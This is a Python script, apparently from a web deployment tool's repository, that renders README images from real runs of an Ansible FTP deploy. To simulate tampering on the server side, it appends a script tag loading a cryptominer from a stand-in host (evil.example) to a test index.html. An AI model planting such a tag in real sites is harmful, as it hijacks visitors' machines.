# Copyright (c) 2026, webdeploy.ftp contributors
# SPDX-License-Identifier: GPL-3.0-or-later

"""Draw what README shows, from real runs: `make pictures`.

terminal.svg is a terminal in which a site is deployed that was changed on both sides; report.png is the page about that
run, by Chromium, where there is one.
"""

from __future__ import annotations

import dataclasses
import io
import platform
import shutil
import subprocess
import sys
import tempfile
from pathlib import Path

from rich.console import Console
from rich.terminal_theme import TerminalTheme
from rich.text import Text

from tests.cli.terminal import Terminal
from tests.conftest import ROOT
from tests.docs.blocks import blocks_of
from tests.docs.reader import USER, Reader
from tests.servers import Server, start

PICTURES = ROOT / "docs" / "_static"
DEPLOY = "ansible-playbook deploy.yml"
COLUMNS = 84
INK = TerminalTheme(
    (24, 29, 36),
    (220, 226, 232),
    [(70, 80, 92), (240, 113, 120), (130, 200, 120), (235, 190, 100), (110, 170, 240), (200, 140, 230), (90, 200, 200),
     (220, 226, 232)],
)  # fmt: skip
# rich's own frame asks the network for a font.
FRAME = """<!-- Copyright (c) 2026, webdeploy.ftp contributors
     SPDX-License-Identifier: GPL-3.0-or-later -->
<svg viewBox="0 0 {terminal_width} {terminal_height}" xmlns="http://www.w3.org/2000/svg" role="img">
<title>ansible-playbook deploy.yml, in check mode and for real</title>
<style>
.{unique_id}-matrix {{ font-family: ui-monospace, Menlo, Consolas, "DejaVu Sans Mono", monospace;
  font-size: {char_height}px; line-height: {line_height}px; font-variant-east-asian: full-width; }}
{styles}
</style>
<defs><clipPath id="{unique_id}-clip-terminal"><rect width="{terminal_width}" height="{terminal_height}"/></clipPath>
{lines}</defs>
<rect width="{terminal_width}" height="{terminal_height}" rx="8" fill="#181d24"/>
<g clip-path="url(#{unique_id}-clip-terminal)">{backgrounds}
<g class="{unique_id}-matrix" transform="translate(9, 9)">{matrix}</g></g>
</svg>
"""


def record(reader: Reader, server: Server) -> tuple[str, str]:
    """What the terminal shows, and the page about the run that changed something."""
    playbook = next(block for block in blocks_of(ROOT / "docs/guide/start.md") if block.file == "deploy.yml")
    reader.follow(dataclasses.replace(playbook, text=playbook.text + "        report: page.html\n"))
    _run(reader, DEPLOY)
    _change_both_sides(reader.folder / "site", server.root / "htdocs")
    shown = [_run(reader, f"{DEPLOY} --check --diff"), _run(reader, DEPLOY)]
    page = (reader.folder / "page.html").read_text(encoding="utf-8")
    shown.append(_run(reader, DEPLOY))
    names = {
        f"{server.host}:{server.port}": "www.example.com",
        server.host: "www.example.com",
        str(reader.folder): "/home/joe",
        f"on {platform.node()}": "on laptop",
    }
    text = "\n".join(shown)
    for ours, example in names.items():
        text, page = text.replace(ours, example), page.replace(ours, example)
    return text, page


def _change_both_sides(site: Path, htdocs: Path) -> None:
    """An edit, a new page and one less; and somebody else was at the server."""
    with (site / "css" / "style.css").open("a", encoding="utf-8") as style:
        style.write("h1 { letter-spacing: .02em; }\n")
    (site / "opening-hours.html").write_text("<h1>Open from seven</h1>\n", encoding="utf-8")
    (site / "img" / "summer.svg").unlink()
    with (htdocs / "index.html").open("a", encoding="utf-8") as page:
        page.write("<script src='https://evil.example/miner.js'></script>\n")
    (htdocs / "guestbook.txt").write_text("Lovely bread!\n", encoding="utf-8")


def _run(reader: Reader, command: str) -> str:
    """The command line, and what it shows in a terminal, but for the recap."""
    environment = {**reader.environment, "TERM": "xterm-256color", "COLUMNS": str(COLUMNS)}
    environment.pop("ANSIBLE_NOCOLOR")
    terminal = Terminal(["bash", "-c", command], reader.folder, environment)
    assert terminal.end() == 0, terminal.text
    shown = terminal.raw.partition("PLAY RECAP")[0].strip()
    return f"\x1b[1m$ {command}\x1b[0m\n{shown}\n"


def draw(shown: str) -> str:
    """A terminal as SVG."""
    console = Console(record=True, width=COLUMNS, file=io.StringIO(), force_terminal=True)
    for line in shown.replace("\r\n", "\n").split("\n"):
        head, stars, _more = line.partition(" ***")
        console.print(Text.from_ansi(head + stars))
    return console.export_svg(theme=INK, code_format=FRAME, unique_id="t")


def photograph(page: Path, picture: Path) -> None:
    """A picture of a page, as a browser shows it."""
    chromium = shutil.which("chromium") or shutil.which("google-chrome")
    if chromium is None:
        print(f"There is no Chromium, so {picture.name} stays as it is.", file=sys.stderr)
        return
    window = ["--window-size=900,1070", "--hide-scrollbars", f"--user-data-dir={page.parent / 'chromium'}"]
    command = [chromium, "--headless=new", "--no-sandbox", "--disable-gpu", *window, f"--screenshot={picture}"]
    subprocess.run([*command, page.as_uri()], check=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


def main() -> None:
    with tempfile.TemporaryDirectory() as folder, start("pyftpdlib", tls="explicit", username=USER) as server:
        reader = Reader(Path(folder), server)
        text, page = record(reader, server)
        reader.close()
        (PICTURES / "terminal.svg").write_text(draw(text), encoding="utf-8")
        file = Path(folder) / "page.html"
        file.write_text(page, encoding="utf-8")
        photograph(file, PICTURES / "report.png")


if __name__ == "__main__":
    main()
